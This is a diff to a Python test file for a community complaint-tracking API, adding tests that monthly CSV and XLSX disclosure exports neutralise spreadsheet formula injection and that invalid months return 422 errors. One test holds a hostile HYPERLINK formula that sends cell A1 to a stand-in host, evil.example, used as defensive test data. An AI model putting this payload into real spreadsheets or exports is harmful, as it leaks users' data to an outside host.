@@ -59,11 +59,11 @@ def outbox(client: TestClient) -> list[Envelope]:
     return client.portal.call(go)
 
 
-def direct_entry(client: TestClient, matter_id: str = "mat_api_1") -> str:
+def direct_entry(client: TestClient, matter_id: str = "mat_api_1", title: str = "景湖花园5号楼楼道灯不亮") -> str:
     data = events.MatterTriaged(
         matter_id=matter_id,
         report_ids=["rpt_1"],
-        title="景湖花园5号楼楼道灯不亮",
+        title=title,
         place=events.Place(compound="jinghuhuayuan", building="5"),
         kind="problem",
         category="lighting",
@@ -156,3 +156,46 @@ def test_only_party_org_closes(client):
     closed = outbox(client)[-1]
     assert closed.type == "matter.closed.v1" and closed.data["entry_id"] == eid
     assert client.post(f"/v1/entries/{eid}/actions/close").status_code == 401
+
+
+def test_disclosure_exports_carry_no_formula_and_survive_control_characters(client):
+    """OWASP CSV injection: formula-leading cells get `'` in CSV and stay strings in XLSX; XLSX never 500s."""
+    import csv
+    import io
+
+    import openpyxl
+
+    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'
+    eid = direct_entry(client, title=hostile)
+    direct_entry(client, "mat_api_2", title="@SUM(1+1)\x01景湖花园路灯不亮\x0b")
+    pc = token("property_company")
+    assert act(client, eid, "start", pc).status_code == 200
+    assert act(client, eid, "progress", pc, note="已采购灯具\x01\x0b").status_code == 200
+    month = dt.datetime.now(dt.timezone(dt.timedelta(hours=8))).strftime("%Y-%m")
+    po = token("party_org")
+    assert client.post("/v1/disclosures", json={"community": "jinshan", "month": month}, headers=po).status_code == 201
+
+    got = client.get(f"/v1/disclosures/jinshan/{month}.csv", headers=po)
+    assert got.status_code == 200
+    rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
+    cells = [c for row in rows[1:] for c in row]
+    assert cells and not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
+    assert any(c.startswith("'@SUM(1+1)") for c in cells) and not any("\x01" in c for c in cells)
+
+    got = client.get(f"/v1/disclosures/jinshan/{month}.xlsx", headers=po)
+    assert got.status_code == 200, got.text
+    ws = openpyxl.load_workbook(io.BytesIO(got.content)).worksheets[0]
+    text = [cell for row in ws.iter_rows(min_row=3) for cell in row if isinstance(cell.value, str)]
+    assert text and all(cell.data_type == "s" for cell in text)  # strings, never formulas
+    leading = [cell for cell in text if cell.value.startswith(("=", "+", "-", "@"))]
+    assert leading and all(cell.quotePrefix for cell in leading)  # Excel keeps them text even when edited
+
+
+def test_out_of_range_months_are_422_naming_the_field(client):
+    po = token("party_org")
+    for month in ("9999-12", "0001-01"):
+        r = client.get("/v1/figures", params={"month": month}, headers=po)
+        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "month", r.text
+        r = client.post("/v1/disclosures", json={"community": "jinshan", "month": month}, headers=po)
+        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "month", r.text
+        assert r.headers["content-type"].startswith("application/problem+json")
